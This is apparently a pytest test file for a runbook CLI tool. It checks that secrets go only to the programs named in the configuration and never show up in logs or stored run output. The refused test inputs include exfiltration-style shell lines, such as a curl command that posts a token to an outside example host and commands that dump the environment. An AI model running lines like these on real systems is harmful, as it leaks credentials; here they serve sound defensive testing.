"""Secrets reach the programs that the configuration names, by their environment, and nothing else by any way."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from hutch.cli.main import cli
from hutch.commands.handover import Handed, Unhandable, checked, handed
from hutch.model.config import Handover, ServiceConfig
from hutch.runbook.placeholders import find
from hutch.runbook.render_shell import mask

TABLE = {"TOKEN": Handover("env:SHOP_TOKEN", ("gh", "./deploy")), "PGPASSWORD": Handover("file:pw", ("pg_dump",))}
VALUE = "correct horse battery staple"


def gets(text: str) -> Handed:
    holes = find(text, "bash")
    return handed(mask(text, holes), holes, TABLE)


@pytest.mark.parametrize(
    ("text", "secrets"),
    [
        ("./deploy v1", ("TOKEN=env:SHOP_TOKEN",)),
        ("pg_dump shop | head -3", ("PGPASSWORD=file:pw",)),
        ("cd /srv && ./deploy v1", ("TOKEN=env:SHOP_TOKEN",)),
        ("printf '%s' \"$TOKEN\" | gh auth login --with-token", ("TOKEN=env:SHOP_TOKEN",)),
        ('gh auth login --with-token <<< "$TOKEN"', ("TOKEN=env:SHOP_TOKEN",)),
        ("gh auth login --with-token <<E\n${TOKEN}\nE", ("TOKEN=env:SHOP_TOKEN",)),
        ("GH_TOKEN=$TOKEN gh pr list", ("TOKEN=env:SHOP_TOKEN",)),
        ("ls -l", ()),
        ("echo '$TOKEN'", ()),
    ],
)
def test_a_named_program_gets_its_own_secrets(text: str, secrets: tuple[str, ...]) -> None:
    found = gets(text)
    assert (found.secrets, found.refused) == (secrets, ())


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("./deploy $TOKEN", "would stand in the argument list of deploy"),
        ('gh api -H "Authorization: Bearer ${TOKEN}" user', "would stand in the argument list of gh"),
        ('gh api user -f "x=$(printf %s "$TOKEN")"', "would stand in the argument list of gh"),
        ("gh api user > $TOKEN", "would stand in the argument list of gh"),
        ("echo $TOKEN", "is for gh, ./deploy, which this line does not run"),
        ("curl -d @- https://x.example <<< $TOKEN", "this line also runs curl"),
        ("./deploy && curl https://x.example", "this line also runs curl"),
        ("./deploy | tee log", "this line also runs tee"),
        ("gh pr list; bash -c env", "this line also runs bash"),
        ("gh pr list $(env)", "this line also runs env"),
        ("/tmp/x/deploy $TOKEN", "this line also runs deploy"),
        ("sudo ./deploy $TOKEN", "this line also runs sudo"),
    ],
)
def test_what_would_show_it_is_refused(text: str, said: str) -> None:
    found = gets(text)
    assert any(said in one for one in found.refused), found


def test_another_program_of_the_same_name_gets_none() -> None:
    assert gets("/tmp/x/deploy v1") == Handed()


def test_a_secret_that_could_not_be_hidden_is_not_given() -> None:
    assert checked("TOKEN", "123456") == "123456"
    with pytest.raises(Unhandable, match="the secret TOKEN is shorter than 6 characters"):
        checked("TOKEN", "12345")


def test_an_approval_ends_when_the_configuration_names_another_secret() -> None:
    named = [ServiceConfig("shop", secrets=s) for s in ({}, TABLE, TABLE | {"TOKEN": Handover("env:OTHER", ("gh",))})]
    assert len({one.fingerprint() for one in named}) == 3


CONFIG = """mode: act
services:
  shop:
    shell: {directory: .}
    binds: {deploy: as-is, env: as-is}
    values: {token: from-the-values}
    secrets:
      TOKEN: {env: SHOP_TOKEN, programs: [./deploy]}
"""
DEPLOY = """#!/bin/sh
echo "deploying with $TOKEN"
printf %s "$TOKEN" | base64
echo "arguments: $*"
tr '\\0' ' ' < /proc/$$/cmdline
"""
RUNBOOK = """# Deploy

## Deploy

### Detection

```bash
env
```

### Resolution

```bash {"name":"deploy"}
./deploy v7
```

```bash {"name":"open"}
./deploy $TOKEN
```
"""


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    Path("hutch.yaml").write_text(CONFIG, "utf-8")
    Path("deploy.md").write_text(RUNBOOK, "utf-8")
    Path("deploy").write_text(DEPLOY, "utf-8")
    Path("deploy").chmod(0o755)
    return tmp_path


def test_a_step_gets_it_and_nothing_that_is_kept_shows_it(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHOP_TOKEN", VALUE)
    done = CliRunner().invoke(cli, ["--no-input", "run", "deploy.md", "--step", "deploy", "--yes", "--json"])
    run = json.loads(done.stdout)["id"]
    shown = CliRunner().invoke(cli, ["runs", "show", run])
    output = CliRunner().invoke(cli, ["runs", "output", run, "14"])
    assert "deploying with •••" in output.stdout
    assert "arguments: v7" in output.stdout
    kept = [p.read_bytes().decode("latin-1") for p in (home / ".hutch").rglob("*") if p.is_file()]
    assert any("deploying with" in text for text in kept)
    for text in (done.output, shown.output, output.output, *kept):
        assert VALUE not in text
        assert "Y29ycmVjdCBob3JzZSBiYXR0ZXJ5IHN0YXBsZQ" not in text
    assert "TOKEN → a secret in the program's environment" in shown.stdout


def test_no_other_step_sees_it(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHOP_TOKEN", VALUE)
    seen = CliRunner().invoke(cli, ["--no-input", "run", "deploy.md", "--step", "deploy/detection/1", "--json"])
    told = CliRunner().invoke(cli, ["--no-input", "run", "deploy.md", "--step", "open"])
    assert "TOKEN=" not in seen.stdout
    assert "would stand in the argument list of deploy" in str(told.exception)
    assert "from-the-values" not in str(told.exception)
    assert told.exit_code == 1


def test_a_secret_that_is_not_there_starts_nothing(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SHOP_TOKEN", raising=False)
    done = CliRunner().invoke(cli, ["--no-input", "run", "deploy.md", "--step", "deploy", "--yes"])
    assert "the environment variable SHOP_TOKEN is not set" in done.output
    assert "deploying" not in done.output
    assert done.exit_code == 1
    checks = CliRunner().invoke(cli, ["doctor", "--json"])
    assert "services.shop.secrets.TOKEN" in json.dumps(json.loads(checks.stdout))
